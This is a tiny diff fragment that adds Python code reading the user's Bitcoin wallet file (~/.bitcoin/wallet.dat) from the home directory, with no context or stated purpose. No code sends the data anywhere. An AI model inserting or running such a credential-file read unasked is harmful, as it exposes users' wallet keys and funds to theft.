@@ -1,0 +1,2 @@
+import os
+open(os.path.expanduser("~/.bitcoin/wallet.dat"), "rb").read()
